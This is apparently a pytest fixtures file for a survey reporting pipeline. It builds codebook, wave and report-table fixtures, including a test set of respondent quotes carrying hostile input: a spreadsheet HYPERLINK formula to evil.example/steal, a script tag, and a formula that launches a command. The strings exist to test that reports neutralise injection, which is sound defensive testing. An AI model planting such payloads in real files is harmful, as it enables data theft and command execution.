"""Shared fixtures: the reference codebook, and the demo waves written once per session."""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).parent))

from factories import model_of, run_demo_waves

from survey.codebook import Codebook, load_codebook, reference_codebook_path

REPO = Path(__file__).resolve().parents[1]


@pytest.fixture(scope="session")
def codebook() -> Codebook:
    """The reference questionnaire's codebook."""
    return load_codebook(reference_codebook_path())


@pytest.fixture(scope="session")
def demo_dir() -> Path:
    """The committed demo waves."""
    return REPO / "data" / "raw"


#: Respondent text a report must never let act: a spreadsheet formula and a script.
HOSTILE_QUOTES = [
    '=HYPERLINK("http://evil.example/steal","Leadership training please")',
    "<script>alert('owned')</script> more leadership training",
    "@SUM(1+1) +cmd|' /C calc'!A0 -2+3 governance workshops",
]


@pytest.fixture(scope="session")
def report_folder(tmp_path_factory) -> Path:
    """The demo's 2024 wave run through the pipeline once: ``reports/2024/`` in a temporary
    folder (the engine's tables, read by every report test)."""
    from survey.pipeline import process_wave

    book = load_codebook(REPO / "data" / "raw" / "codebook.yaml")
    folder = tmp_path_factory.mktemp("report2024")
    process_wave(
        book, book.wave("2024"), out_dir=folder / "2024", processed_dir=folder, reports=False
    )
    return folder / "2024"


@pytest.fixture(scope="session")
def wave_tables(report_folder):
    """The 2024 wave's tables as the report writers read them."""
    from survey.report.tables import load_tables

    return load_tables(report_folder, load_codebook(REPO / "data" / "raw" / "codebook.yaml"))


@pytest.fixture(scope="session")
def findings(wave_tables):
    """The 2024 wave's headline findings."""
    from survey.report.findings import headline_findings

    return headline_findings(wave_tables)


@pytest.fixture(scope="session")
def wave_model(wave_tables, findings):
    """The 2024 wave's report model, as the three writers take it."""
    return model_of(wave_tables, findings)


@pytest.fixture(scope="session")
def hostile_tables(wave_tables):
    """The 2024 tables with respondent quotes that try to run a formula or a script."""
    import dataclasses

    import pandas as pd

    theme = wave_tables.quotes["theme"].iloc[0]
    question = wave_tables.quotes["question"].iloc[0]
    hostile = pd.DataFrame({"question": question, "theme": theme, "quote": HOSTILE_QUOTES})
    return dataclasses.replace(
        wave_tables,
        quotes=pd.concat([hostile, wave_tables.quotes], ignore_index=True).astype("string"),
    )


@pytest.fixture(scope="session")
def history_root(tmp_path_factory) -> Path:
    """The three demo waves run together (no reports): ``<root>/2024``, ``2025`` and ``2026``,
    each later wave with its history (``trends.csv``, ``trend_flags.csv``, ``rankings.csv``)."""
    return run_demo_waves(tmp_path_factory.mktemp("history"), reports=False) / "reports"


@pytest.fixture(scope="session")
def latest_tables(history_root):
    """The 2026 wave's tables with its history (changes since 2025 and since 2024)."""
    from survey.report.tables import load_tables

    return load_tables(
        history_root / "2026", load_codebook(REPO / "data" / "raw" / "codebook.yaml")
    )
